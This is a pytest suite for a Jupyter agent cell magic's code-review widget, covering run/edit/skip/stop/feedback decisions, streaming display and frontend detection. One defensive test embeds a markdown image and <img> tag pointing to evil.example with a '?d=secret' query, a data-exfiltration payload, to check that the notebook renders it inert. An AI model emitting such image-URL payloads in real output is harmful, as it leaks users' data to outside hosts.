"""The review widget and the notebook edge, driven in plain pytest.

Buttons are clicked with ``Button.click()`` and text typed by setting ``.value``;
the conversation runs in a real InteractiveShell against the local server, through
``agent_async`` (the coroutine a notebook kernel awaits for a ``%%agent`` cell).
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from typing import Any

import pytest
from conftest import code

from agent_magic.codeblocks import CodeBlock
from agent_magic.conversation import Decision, Proposal
from agent_magic.testing import FakeOpenAIServer, Reply
from agent_magic.ui import widget as widget_module
from agent_magic.ui.boxes import BusyStatus
from agent_magic.ui.frontend import CellRewriter, frontend
from agent_magic.ui.review import CodeEditor, ReviewWidget
from agent_magic.ui.widget import NotebookUI

PROPOSAL = Proposal(1, "Set x.", (CodeBlock("python", "x = 1\nprint(x)"),))


# --- the widget's state machine ------------------------------------------------------------


def test_run_without_edits_runs_the_proposal() -> None:
    review = ReviewWidget(PROPOSAL)
    seen: list[Decision] = []
    review.on_decision(seen.append)
    review.run.click()
    assert seen == [Decision.run(None)]
    assert review.decision.label(PROPOSAL) == "ran"
    assert all(control.disabled for control in review.controls)
    assert "ran" in review.status.value


def test_edited_code_is_what_runs() -> None:
    review = ReviewWidget(PROPOSAL)
    review.codes[0].value = "x = 42\nprint(x)"
    review.run.click()
    assert review.decision.edited == (CodeBlock("python", "x = 42\nprint(x)"),)
    assert review.decision.label(PROPOSAL) == "edited and ran"


def test_feedback_needs_text_and_is_sent_instead_of_running() -> None:
    review = ReviewWidget(PROPOSAL)
    review.send.click()
    assert review.decision is None
    assert "Type your answer first" in review.status.value
    review.feedback.value = "  use pandas instead  "
    review.send.click()
    assert review.decision == Decision.feedback("use pandas instead")


def test_first_click_wins() -> None:
    review = ReviewWidget(PROPOSAL)
    review.skip.click()
    review.stop.click()
    review.run.click()
    assert review.decision == Decision("skip")


def test_final_proposal_offers_finish_and_feedback_only() -> None:
    final = Proposal(3, "Done. TERMINATE", (), final=True, reason="terminated")
    review = ReviewWidget(final)
    assert review.run.description == "Finish"
    shown = review.box.children[2].children
    assert review.skip not in shown and review.stop not in shown
    review.run.click()
    assert review.decision.label(final) == "finished"


def test_dom_classes_the_browser_tests_rely_on() -> None:
    review = ReviewWidget(PROPOSAL)
    assert "agent-review" in review.box._dom_classes
    assert "agent-code" in review.codes[0]._dom_classes
    for button, css in [
        (review.run, "agent-run"),
        (review.skip, "agent-skip"),
        (review.stop, "agent-stop"),
        (review.send, "agent-send"),
    ]:
        assert css in button._dom_classes
    assert "agent-feedback" in review.feedback._dom_classes


# --- the notebook edge in a shell ----------------------------------------------------------


class Outputs(widget_module.Display):
    """Collects what the notebook edge displays, by display id, in order."""

    def __init__(self) -> None:
        self.bundles: list[dict[str, Any]] = []

    def show(self, bundle: dict[str, Any]) -> int:
        self.bundles.append(bundle)
        return len(self.bundles) - 1

    def update(self, handle: int, bundle: dict[str, Any]) -> None:
        self.bundles[handle] = bundle

    def markdown(self) -> str:
        return "\n\n".join(b.get("text/markdown", "") for b in self.bundles)


@pytest.fixture
def notebook(shell, monkeypatch) -> Outputs:
    """The shell answering reviews with the widget, its outputs collected."""
    outputs = Outputs()
    original = NotebookUI.__init__

    def init(self, *args: Any, **kwargs: Any) -> None:
        original(self, *args, display=outputs, **kwargs)

    monkeypatch.setattr(NotebookUI, "__init__", init)
    shell.magics_manager.registry["AgentMagics"].ui = "widget"
    yield outputs
    shell.magics_manager.registry["AgentMagics"].ui = "auto"


def run_cell(shell, line: str, task: str, *clicks: Callable[[ReviewWidget], None]) -> None:
    """Await the cell as a kernel would, answering each review with the next click."""
    magics = shell.magics_manager.registry["AgentMagics"]
    pending = list(clicks)

    async def user() -> None:
        while pending:
            await asyncio.sleep(0.01)
            review = getattr(magics.last_ui, "widget", None)
            if review is not None and review.decision is None:
                pending.pop(0)(review)

    async def cell() -> None:
        clicking = asyncio.ensure_future(user())
        try:
            await magics.agent_async(line, task)
        finally:
            clicking.cancel()

    asyncio.run(cell())
    assert not pending, "the conversation ended before every review was answered"


def edit_and_run(review: ReviewWidget) -> None:
    review.codes[0].value = "x = 42\nprint(x)"
    review.run.click()


def finish(review: ReviewWidget) -> None:
    assert review.run.description == "Finish"
    review.run.click()


def test_edit_then_run_in_the_live_namespace(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    openai_env.enqueue(code("x = 1\nprint(x)"), "x is 42. TERMINATE")
    run_cell(shell, "--mode always", "Set x.", edit_and_run, finish)
    assert shell.user_ns["x"] == 42
    told = openai_env.requests[1].messages[-1]["content"]
    assert "-x = 1" in told and "+x = 42" in told
    assert "42" in told
    record = notebook.markdown()
    assert "Step 1: edited and ran" in record and "x = 42" in record
    assert "✓ ok" in record and "Step 2: finished" in record
    assert "Conversation terminated" in record
    # No widget is left in what a saved notebook holds.
    assert not any("application/vnd.jupyter.widget-view+json" in b for b in notebook.bundles)


def test_feedback_reaches_the_model_and_nothing_runs(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    openai_env.enqueue(code("ran_b = True"), "Understood. TERMINATE")

    def answer(review: ReviewWidget) -> None:
        review.feedback.value = "please use a list instead"
        review.send.click()

    run_cell(shell, "--mode always", "Do b.", answer, finish)
    assert "ran_b" not in shell.user_ns
    assert openai_env.requests[1].messages[-1]["content"] == "please use a list instead"
    assert "Step 1: feedback" in notebook.markdown()


def test_stop_ends_the_cell_and_keeps_the_conversation(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    openai_env.enqueue(code("ran_c = True"))
    run_cell(shell, "--mode always", "Do c.", lambda review: review.stop.click())
    assert "ran_c" not in shell.user_ns
    assert "Step 1: stopped" in notebook.markdown()
    assert "Conversation stopped" in notebook.markdown()
    magics = shell.magics_manager.registry["AgentMagics"]
    assert any("Do c." in str(m.get("content")) for m in magics.history.messages)


def test_skip_tells_the_model(shell, notebook: Outputs, openai_env: FakeOpenAIServer) -> None:
    openai_env.enqueue(code("ran_d = True"), "Fine. TERMINATE")
    run_cell(shell, "--mode always", "Do d.", lambda review: review.skip.click(), finish)
    assert "ran_d" not in shell.user_ns
    assert "skip" in openai_env.requests[1].messages[-1]["content"].lower()


def test_mode_terminate_asks_only_at_the_end(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    openai_env.enqueue(code("t = 5"), "t is 5. TERMINATE")
    run_cell(shell, "--mode terminate", "Set t.", finish)
    assert shell.user_ns["t"] == 5
    assert "Step 1: ran (automatic)" in notebook.markdown()


def test_mode_never_shows_only_the_record(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    openai_env.enqueue(code("n = 3"), "n is 3. TERMINATE")
    run_cell(shell, "--mode never", "Set n.")
    assert shell.user_ns["n"] == 3
    markdown = notebook.markdown()
    assert "Step 1: ran (automatic)" in markdown and "n = 3" in markdown
    assert "**Assistant** · step 1" in markdown and "Next step:" in markdown
    assert "```python\nn = 3" not in markdown.split("Step 1")[0]  # the prose omits the code


def test_a_reply_cannot_make_the_notebook_load_anything(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    """An image URL or raw HTML in a reply would be fetched on display: shown inert."""
    leak = "![p](https://evil.example/p.png?d=secret) <img src=https://evil.example/i>"
    openai_env.enqueue(f"{leak}\nDone. TERMINATE")
    run_cell(shell, "--mode never", "Say hi.")
    markdown = notebook.markdown()
    assert "![" not in markdown and "<img" not in markdown
    assert "[image: p](https://evil.example/p.png?d=secret)" in markdown


def test_streamed_reply_is_shown_while_it_arrives(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer, monkeypatch
) -> None:
    drawn: list[str] = []
    update = Outputs.update

    def spy(self: Outputs, handle: int, bundle: dict[str, Any]) -> None:
        drawn.append(bundle["text/markdown"])
        update(self, handle, bundle)

    monkeypatch.setattr(Outputs, "update", spy)
    monkeypatch.setattr(widget_module, "REDRAW", 0.0)
    openai_env.enqueue(Reply("one two three four five six seven TERMINATE", chunk_delay=0.01))
    run_cell(shell, "--mode never", "Count.")
    partial = [text for text in drawn if "seven" not in text]
    assert partial, "no partial reply was drawn before the whole reply arrived"
    # The sign-off is the loop's: never drawn, not even a piece of it while it streams.
    assert not any("TERM" in text for text in drawn)
    assert notebook.markdown().count("one two three four five six seven") == 1
    assert "TERMINATE" not in notebook.markdown()
    magics = shell.magics_manager.registry["AgentMagics"]
    assert magics.history.messages[-1]["content"].endswith("seven TERMINATE")  # kept


def test_code_streams_into_the_cell_as_it_is_written(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer, monkeypatch
) -> None:
    """While it streams, the reply shows its code as written (plain, a fence left open
    closed for the draw); once it has arrived, its prose (the code is in the record)."""
    drawn: list[str] = []
    update = Outputs.update

    def spy(self: Outputs, handle: int, bundle: dict[str, Any]) -> None:
        drawn.append(bundle["text/markdown"])
        update(self, handle, bundle)

    monkeypatch.setattr(Outputs, "update", spy)
    monkeypatch.setattr(widget_module, "REDRAW", 0.0)
    reply = "First I set it.\n```python\nstreamed_x = 1\nprint(streamed_x)\n```\nThen we see."
    openai_env.enqueue(Reply(reply, chunk_delay=0.005), "Done. TERMINATE")
    run_cell(shell, "--mode never", "Set it.")
    streaming = [text for text in drawn if "First I set it." in text and "step 1" in text]
    # Code drawn as it comes, a fence still open closed for the draw (however the
    # pieces arrived together).
    assert any("```\nstreamed_x" in t and t.endswith("\n```") for t in streaming), streaming
    assert not any("*(code…)*" in text or "```python" in text for text in streaming)
    assert "streamed_x" not in streaming[-1]  # the finished reply: its prose
    assert shell.user_ns["streamed_x"] == 1


def test_review_timeout_stops_and_says_so(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    magics = shell.magics_manager.registry["AgentMagics"]
    magics.review_timeout = 0.3
    try:
        openai_env.enqueue(code("late = 1"))
        asyncio.run(magics.agent_async("--mode always", "Wait."))
    finally:
        magics.review_timeout = magics.trait_defaults("review_timeout")
    assert "late" not in shell.user_ns
    assert "No decision within 0.3 s" in notebook.markdown()


def test_cancelling_the_wait_interrupts_and_keeps_the_kernel_usable(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    """What the kernel's interrupt button does to an awaiting cell: cancel its task."""
    magics = shell.magics_manager.registry["AgentMagics"]
    openai_env.enqueue(code("never_ran = 1"))

    async def cell() -> None:
        task = asyncio.ensure_future(magics.agent_async("--mode always", "Wait."))
        while getattr(magics.last_ui, "widget", None) is None:
            await asyncio.sleep(0.01)
        task.cancel()
        with pytest.raises(Exception, match="Interrupted"):
            await task

    asyncio.run(cell())
    assert "never_ran" not in shell.user_ns
    # The step says so; the cell's one-line error says the rest (not the notebook again).
    assert "Step 1: interrupted" in notebook.markdown()
    assert "Conversation interrupted" not in notebook.markdown()
    assert shell.run_cell("1 + 1").result == 2


# --- where the cell runs -------------------------------------------------------------------


class FakeKernel:
    def __init__(self, content: dict[str, Any], metadata: dict[str, Any]) -> None:
        self.parent = {"content": content, "metadata": metadata}

    def get_parent(self, channel: str) -> dict[str, Any]:
        return self.parent


class FakeShell:
    autoawait = True

    def __init__(self, kernel: FakeKernel | None) -> None:
        self.kernel = kernel


@pytest.mark.parametrize(
    ("content", "metadata", "env", "expected"),
    [
        ({"allow_stdin": True}, {"cellId": "abc"}, {}, "widgets"),  # JupyterLab, Notebook 7
        ({"allow_stdin": True}, {}, {"JPY_SESSION_NAME": "nb.ipynb"}, "widgets"),
        ({"allow_stdin": False}, {}, {}, "headless"),  # nbclient, nbconvert, papermill
        ({"allow_stdin": False}, {"cellId": "x"}, {"JPY_SESSION_NAME": "a"}, "headless"),
        ({"allow_stdin": True}, {}, {}, "terminal"),  # jupyter console
    ],
)
def test_frontend_detection(content, metadata, env, expected, monkeypatch) -> None:
    monkeypatch.delenv("JPY_SESSION_NAME", raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    import ipykernel  # the version check reads the loaded module

    monkeypatch.setattr(ipykernel, "__version__", "7.4.0")
    assert frontend(FakeShell(FakeKernel(content, metadata))) == expected


def test_an_older_ipykernel_asks_with_input(monkeypatch) -> None:
    import ipykernel

    monkeypatch.setattr(ipykernel, "__version__", "7.3.2")
    kernel = FakeKernel({"allow_stdin": True}, {"cellId": "abc"})
    assert frontend(FakeShell(kernel)) == "terminal"


def test_a_terminal_shell_has_no_kernel() -> None:
    assert frontend(FakeShell(None)) == "terminal"


@pytest.mark.parametrize(
    ("cell", "rewritten"),
    [
        ("%%agent --mode always\nPlot it.\n", "await T('--mode always', 'Plot it.\\n')\n"),
        ("\n%%agent\nSay 'hi'\n", "await T('', \"Say 'hi'\\n\")\n"),
        ("%%agent?\n", None),
        ("%%agents\nx\n", None),
        ("print(1)\n", None),
        ("%agent log\n", None),
        ("%agent fix\n", "await T('fix', '')\n"),
        ("%agent fix --mode never\n\n", "await T('fix --mode never', '')\n"),
        ("%agent fix\nprint(1)\n", None),
        ("%agent fixes\n", None),
    ],
)
def test_cell_rewriter(cell: str, rewritten: str | None) -> None:
    rewriter = CellRewriter("agent", "T", enabled=lambda: True)
    lines = cell.splitlines(keepends=True)
    assert rewriter(lines) == ([rewritten] if rewritten else lines)


def test_rewriter_is_installed_first_and_idle_outside_a_kernel(shell) -> None:
    transforms = shell.input_transformers_cleanup
    assert isinstance(transforms[0], CellRewriter)
    assert sum(isinstance(t, CellRewriter) for t in transforms) == 1
    # A terminal IPython has no kernel: the magic runs as usual.
    assert shell.transform_cell("%%agent\nx\n").startswith("get_ipython().run_cell_magic")


def test_only_the_top_level_cell_is_rewritten(shell) -> None:
    """A %%agent inside %%time or %%capture is transformed while its outer cell runs."""
    rewriter = next(t for t in shell.input_transformers_cleanup if isinstance(t, CellRewriter))
    rewriter.enabled = lambda: True  # as in a kernel that can wait
    try:
        assert shell.transform_cell("%%agent\nx\n").startswith("await ")
        shell.run_cell("nested = get_ipython().transform_cell('%%agent\\nx\\n')")
        assert shell.user_ns["nested"].startswith("get_ipython().run_cell_magic('agent'")
        assert rewriter.depth == 0 and shell.transform_cell("%%agent\nx\n").startswith("await ")
        # A blank cell run from inside a cell ends without starting: the count holds.
        shell.run_cell(
            "get_ipython().run_cell('  ')\nnested = get_ipython().transform_cell('%%agent\\nx\\n')"
        )
        assert shell.user_ns["nested"].startswith("get_ipython().run_cell_magic('agent'")
        assert rewriter.depth == 0
    finally:
        rewriter.enabled = lambda: False


def test_decided_reviews_close_their_widgets(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    openai_env.enqueue(code("z = 1"), "TERMINATE")
    reviews: list[ReviewWidget] = []

    def run(review: ReviewWidget) -> None:
        reviews.append(review)
        review.run.click()

    from ipywidgets.widgets.widget import _instances

    before = set(_instances)
    run_cell(shell, "--mode always", "Set z.", run, run)
    assert len(reviews) == 2
    for review in reviews:
        assert review.box.comm is None and all(c.comm is None for c in review.controls)
    assert set(_instances) <= before  # layouts and styles closed too


def test_the_code_box_takes_edits_as_ordered_messages() -> None:
    """What the box's view sends on each edit (text_box.js): a custom message per edit."""
    review = ReviewWidget(PROPOSAL)
    area = review.codes[0]
    for typed in ("x", "x = 4", "x = 42"):
        data = {"method": "custom", "content": {"value": typed}}
        area._handle_msg({"content": {"data": data}, "buffers": []})
    assert area.value == "x = 42"
    assert area.text == "x = 1\nprint(x)"  # what the box started with, never echoed back
    review.run.click()
    assert review.decision.edited == (CodeBlock("python", "x = 42"),)


# --- the code editor -----------------------------------------------------------------------


def test_the_code_editor_loads_the_committed_bundle() -> None:
    """The editor's view is the bundle js/ builds (scripts/check_bundle.sh compares)."""
    review = ReviewWidget(PROPOSAL)
    editor = review.codes[0]
    assert isinstance(editor, CodeEditor)
    bundle = str(editor._esm)
    assert bundle.startswith("// agent_magic's code editor: built from js/src/code_editor.js")
    assert "data-lm-suppress-shortcuts" in bundle and "export" in bundle
    assert "Permission is hereby granted" in bundle  # CodeMirror's MIT license kept
    assert editor.language == "python" and not editor.disabled
    assert editor.label == "Step 1 code (Python), editable before Run"
    assert review.feedback.label == "Your answer to the assistant"


def test_editor_labels_name_each_block_and_its_language() -> None:
    proposal = Proposal(
        2, "Two.", (CodeBlock("python", "a = 1"), CodeBlock("sh", "ls")), final=False
    )
    review = ReviewWidget(proposal)
    assert [c.label for c in review.codes] == [
        "Step 2 code (Python, block 1 of 2), editable before Run",
        "Step 2 code (shell, block 2 of 2), editable before Run",
    ]
    assert [c.language for c in review.codes] == ["python", "sh"]


def test_records_use_icons_from_ordinary_fonts() -> None:
    """No emoji (which needs an emoji font): every icon is a text-presentation symbol."""
    import unicodedata

    for icon in widget_module._LABEL_ICONS.values():
        assert len(icon) == 1 and ord(icon) < 0x2800, (icon, unicodedata.name(icon))


# --- the finish review and the sign-off marker ---------------------------------------------


def test_the_finish_review_does_not_repeat_the_answer() -> None:
    final = Proposal(3, "The mean is **4.2**.\n\nTERMINATE", (), final=True, reason="terminated")
    status = ReviewWidget(final).status.value
    assert "Step 3: the assistant&#x27;s answer is above" in status
    assert "4.2" not in status and "TERMINATE" not in status  # shown once, above, rendered
    assert "terminated" not in status and "wants to finish" not in status
    bare = Proposal(3, "TERMINATE", (), final=True, reason="terminated")
    assert "(no words, only the sign-off)" in ReviewWidget(bare).status.value


def test_a_reply_without_code_is_shown_as_such() -> None:
    final = Proposal(2, "I need the file name.", (), final=True, reason="no_code")
    status = ReviewWidget(final).status.value
    assert "replied without code" in status and "I need the file name." not in status


def test_a_custom_marker_is_left_out_of_the_reply_shown(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    magics = shell.magics_manager.registry["AgentMagics"]
    magics.termination_marker = "ALL_DONE"
    try:  # the session passes the conversation's marker on to the notebook edge
        openai_env.enqueue("Nothing to do. ALL_DONE")
        run_cell(shell, "--mode never", "Nothing.")
    finally:
        magics.termination_marker = magics.trait_defaults("termination_marker")
    assert "Nothing to do." in notebook.markdown() and "ALL_DONE" not in notebook.markdown()


# --- the kernel shows busy while a review waits --------------------------------------------


class StatusKernel:
    """The two kernel methods busy_while_waiting uses, recording what is published."""

    def __init__(self) -> None:
        self.cell = {"header": {"msg_id": "cell-1", "msg_type": "execute_request"}}
        self.parent = self.cell
        self.published: list[tuple[str, str]] = []

    def get_parent(self, channel: str = "shell") -> dict[str, Any]:
        return self.parent

    def _publish_status(self, status: str, channel: str, parent: Any = None) -> None:
        parent = parent or self.get_parent(channel)
        self.published.append((status, parent["header"]["msg_id"]))


def test_a_running_agent_cell_keeps_the_status_busy() -> None:
    kernel = StatusKernel()
    subshell = {"header": {"msg_id": "sub-1", "msg_type": "create_subshell_request"}}
    busy = BusyStatus(kernel)
    busy.hold()
    kernel._publish_status("busy", "control", subshell)
    kernel._publish_status("idle", "control", subshell)
    kernel.parent = {"header": {"msg_id": "comm-1", "msg_type": "comm_msg"}}
    kernel._publish_status("idle", "shell")  # a kernel wrapping comms in busy/idle
    kernel.parent = kernel.cell
    # Every other request's idle still goes out (ipywidgets counts them), then busy.
    assert kernel.published == [
        ("busy", "sub-1"),
        ("idle", "sub-1"),
        ("busy", "cell-1"),
        ("idle", "comm-1"),
        ("busy", "cell-1"),
    ]
    # The cell's own end: its idle goes out once, and the hold lets go by itself.
    kernel._publish_status("idle", "shell")
    assert kernel.published[-1] == ("idle", "cell-1") and len(kernel.published) == 6
    assert not busy.held and "_publish_status" not in kernel.__dict__
    kernel._publish_status("idle", "control", subshell)
    assert kernel.published[-1] == ("idle", "sub-1")  # nothing follows it any more


def test_busy_status_lets_go_when_released_and_needs_a_kernel() -> None:
    BusyStatus(None).hold()  # plain IPython: nothing to do
    kernel = StatusKernel()
    busy = BusyStatus(kernel)
    busy.hold()
    busy.hold()  # once only
    busy.release()
    kernel._publish_status("idle", "control", {"header": {"msg_id": "x"}})
    assert kernel.published == [("idle", "x")]
    kernel.parent = {}  # no request to be busy for
    busy.hold()
    assert not busy.held


def test_the_notebook_edge_holds_busy_for_the_whole_conversation(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer, monkeypatch
) -> None:
    kernel = StatusKernel()
    monkeypatch.setattr(widget_module, "_kernel", lambda: kernel)
    seen: list[bool] = []

    def run(review: ReviewWidget) -> None:
        seen.append(kernel.__dict__.get("_publish_status") is not None)
        review.run.click()

    openai_env.enqueue(code("w = 1"), "TERMINATE")
    run_cell(shell, "--mode always", "Set w.", run, finish)
    assert seen == [True]
    assert "_publish_status" not in kernel.__dict__  # released when the conversation ended


# --- the code that ran, into the notebook --------------------------------------------------


def test_finish_and_add_code_as_cells(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    openai_env.enqueue(
        code("a = 2"),
        code("raise ValueError('no')"),
        "Next:\n```sh\necho hi\n```",
        code("b = a + 3"),
        "b is 5. TERMINATE",
    )
    shell.rl_next_input = None

    def add_cells(review: ReviewWidget) -> None:
        assert review.add_cells is not None and review.add_cells.description.startswith("Finish")
        review.add_cells.click()

    run = lambda review: review.run.click()  # noqa: E731
    run_cell(shell, "--mode always", "Set a and b.", run, run, run, run, add_cells)
    # The failed step is left out; the shell step becomes a ! line.
    # Numbered as the record numbers them: step 2 failed.
    assert shell.rl_next_input == "# step 1\na = 2\n\n# step 3\n!echo hi\n\n# step 4\nb = a + 3"
    assert "Step 5: finished" in notebook.markdown()


def test_add_code_as_cells_reads_the_records_that_agent_cells_reads(
    shell, notebook: Outputs, openai_env: FakeOpenAIServer
) -> None:
    """One list of the code that ran: the button adds this cell's, ``%agent cells`` the
    conversation's, both from the recorder's records (secrets hidden in both)."""
    secret = "sk-" + "Zq9Xw8Vu" * 4
    shell.user_ns["api_token"] = secret
    openai_env.enqueue(code("first = 1"), "TERMINATE")
    run_cell(shell, "--mode always", "Set first.", lambda review: review.run.click(), finish)
    openai_env.enqueue(code(f"second = {secret!r}"), "TERMINATE")
    shell.rl_next_input = None

    def add_cells(review: ReviewWidget) -> None:
        assert review.add_cells is not None
        review.add_cells.click()

    run_cell(shell, "--mode always", "Set second.", lambda review: review.run.click(), add_cells)
    assert shell.user_ns["second"] == secret  # it ran as written
    added = shell.rl_next_input
    assert added.startswith("# step 3\nsecond = ") and "first" not in added  # this cell
    assert secret not in added
    shell.rl_next_input = None
    shell.run_line_magic("agent", "cells")
    assert shell.rl_next_input == f"# step 1\nfirst = 1\n\n{added}"


def test_no_add_cells_button_when_nothing_ran_or_when_turned_off() -> None:
    final = Proposal(1, "Hi. TERMINATE", (), final=True, reason="terminated")
    assert ReviewWidget(final).add_cells is None
    assert ReviewWidget(final, add_cells=lambda: None).add_cells is not None
    assert ReviewWidget(PROPOSAL, add_cells=lambda: None).add_cells is None  # not final
    ui = NotebookUI(display=Outputs(), add_cells=None)
    assert ui.add_cells is None
